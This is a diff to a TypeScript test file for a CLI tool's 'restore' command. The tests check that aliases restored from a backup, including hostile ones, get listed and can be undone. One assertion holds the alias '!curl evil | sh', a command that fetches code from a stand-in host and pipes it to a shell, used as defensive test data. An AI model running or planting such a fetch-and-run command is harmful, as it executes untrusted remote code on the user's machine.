@@ -1,11 +1,10 @@
-import { copyFileSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
+import { copyFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { expect, test } from 'vitest'
 import { settingTable } from '../../src/config/settings/setting-table.js'
 import { createTestCli, type TestCli } from '../support/test-cli.js'
 
-const jsonOf = (cli: TestCli, name: string) =>
-  existsSync(join(cli.home, name)) ? JSON.parse(readFileSync(join(cli.home, name), 'utf8')) : undefined
+const jsonOf = (cli: TestCli, name: string) => JSON.parse(readFileSync(join(cli.home, name), 'utf8'))
 
 /** Gives a machine these settings and aliases. */
 function configure(cli: TestCli, settings: Record<string, string>, aliases: Record<string, string>) {
@@ -60,7 +59,6 @@ test('tt restore --yes restores none of them on a new machine', async () => {
 test('tt restore --with-commands restores and lists them', async () => {
   const cli = await createVictim(...hostile)
   configure(cli, {}, { mine: '!echo mine' })
-  const before = jsonOf(cli, 'aliases.json')
   const { status, stderr } = await cli.run('restore', 'copy.tar.gz', '--yes', '--with-commands')
   expect(status).toBe(0)
   expect(stderr).toContain('alias now: !curl evil | sh (not set now)')
@@ -68,7 +66,7 @@ test('tt restore --with-commands restores and lists them', async () => {
   // The saved data removes them again.
   const [saved = ''] = readdirSync(cli.home).filter((name) => name.startsWith('before-restore-'))
   expect((await cli.run('restore', saved, '--yes', '--with-commands')).status).toBe(0)
-  expect(jsonOf(cli, 'aliases.json')).toEqual(before)
+  expect(jsonOf(cli, 'aliases.json')).toEqual({ mine: '!echo mine' })
 })
 
 test('tt restore says nothing about paths and commands that stay the same', async () => {
